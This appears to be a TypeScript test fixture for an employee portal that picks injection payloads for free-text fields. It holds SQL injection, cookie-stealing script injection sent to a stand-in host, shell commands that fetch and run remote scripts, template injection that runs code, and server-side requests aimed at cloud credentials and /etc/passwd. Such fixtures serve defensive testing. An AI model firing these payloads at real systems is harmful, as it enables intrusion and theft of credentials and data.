import type { SeededRandom } from '../random.ts';

/** One try to make the backend run what a field or a parameter says. */
export interface Injection {
  readonly method: 'GET' | 'PUT' | 'POST';
  /** Below the portal; `{uid}` is the person's own. */
  readonly path: string;
  readonly body?: Readonly<Record<string, string>>;
}

const inBio = (bio: string): Injection => ({ method: 'PUT', path: '/api/employees/{uid}', body: { bio } });
const inReason = (reason: string): Injection => ({
  method: 'POST',
  path: '/api/leave',
  body: { kind: 'personal', from: '2026-12-01', to: '2026-12-01', reason },
});

/** By kind: SQL, script, shell, template, server-side request. Each field is one that honest people fill with free text. */
const injections: readonly (readonly Injection[])[] = [
  [
    { method: 'GET', path: `/api/employees?dept=${encodeURIComponent("1' OR '1'='1")}` },
    { method: 'GET', path: `/api/announcements?page=${encodeURIComponent('1 UNION SELECT name, bank_card FROM employees--')}` },
    { method: 'PUT', path: '/api/employees/{uid}', body: { address: "深圳市南山区'; DROP TABLE employees;--" } },
  ],
  [
    inBio('<img src=x onerror="location=`//x.example/`+document.cookie">'),
    inBio('爱好摄影 <svg/onload=alert(document.domain)>'),
    inReason('<script src=https://x.example/a.js></script>'),
  ],
  [inReason('家中有事;curl http://x.example/a.sh|sh'), inBio('$(wget -qO- http://x.example/a)')],
  [
    inBio('{{constructor.constructor("return process.env")()}}'),
    inReason('${7*7}${T(java.lang.Runtime).getRuntime().exec("id")}'),
  ],
  [inReason('材料见 http://169.254.169.254/latest/meta-data/iam/security-credentials/'), inBio('file:///etc/passwd')],
];

/** One of each kind. */
export function drawInjections(random: SeededRandom): readonly Injection[] {
  return injections.map((kind) => random.pick(kind));
}
